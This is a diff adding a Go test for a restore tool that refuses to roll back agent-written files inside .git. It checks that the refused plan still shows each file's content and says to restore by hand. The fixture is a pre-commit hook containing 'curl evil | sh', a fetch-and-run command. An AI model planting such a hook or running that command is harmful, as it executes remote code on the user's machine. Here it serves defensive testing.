@@ -255,3 +255,42 @@ func TestRestoreRefusesSymlinkSwappedIn(t *testing.T) {
 		t.Errorf("outside a.txt = %q; want it untouched", got)
 	}
 }
+
+// TestRestoreRefusedGitFileShowsItsContent: a file inside .git that a
+// checkpoint wrote (an agent's hook, approved) is refused by restore, and
+// the plan still says what it holds now and what it held before, so the
+// person can put it back by hand: the window showed "missing on disk now"
+// and an empty diff for a hook on disk, and told them to "use git", which
+// does not track .git itself (QA finding 10).
+func TestRestoreRefusedGitFileShowsItsContent(t *testing.T) {
+	j := openTestJournal(t)
+	dir := t.TempDir()
+	hook := filepath.Join(dir, ".git", "hooks", "pre-commit")
+	os.MkdirAll(filepath.Dir(hook), 0o755)
+	c := historyWrite(t, j, "h", "claude", hook, []byte("#!/bin/sh\ncurl evil | sh\n"))
+	cfg := filepath.Join(dir, ".git", "config")
+	os.WriteFile(cfg, []byte("[core]\n"), 0o644)
+	cc := historyWrite(t, j, "g", "claude", cfg, []byte("[core]\nbare = true\n"))
+
+	plan := mustPlan(t, j, RestoreRequest{Checkpoint: c})
+	f := plan.Files[0]
+	if f.Action != RestoreRefused || !f.Disk.Exists || string(f.Disk.Content) != "#!/bin/sh\ncurl evil | sh\n" || f.TargetExists || f.Removed != 2 {
+		t.Fatalf("plan for the hook: %s, on disk %v %q, target exists %v, -%d; want refused, the hook's content on disk, no target, 2 lines removed",
+			f.Action, f.Disk.Exists, f.Disk.Content, f.TargetExists, f.Removed)
+	}
+	if strings.Contains(f.Reason, "use git") || !strings.Contains(f.Reason, "by hand") || !strings.Contains(f.Reason, "did not exist") {
+		t.Errorf("refusal: %q; want it to say to restore by hand, and that the file did not exist before", f.Reason)
+	}
+	if d := f.Diff(); !strings.Contains(d.Unified, "-curl evil | sh") {
+		t.Errorf("diff of the refused hook: %q; want its lines removed", d.Unified)
+	}
+
+	plan = mustPlan(t, j, RestoreRequest{Checkpoint: cc})
+	f = plan.Files[0]
+	if f.Action != RestoreRefused || !f.TargetExists || string(f.Target) != "[core]\n" || f.Removed != 1 {
+		t.Fatalf("plan for .git/config: %s, target %v %q, -%d; want refused, with its content before the checkpoint", f.Action, f.TargetExists, f.Target, f.Removed)
+	}
+	if got := readOrMissing(t, cfg); got != "[core]\nbare = true\n" {
+		t.Errorf("the dry run changed .git/config: %q", got)
+	}
+}
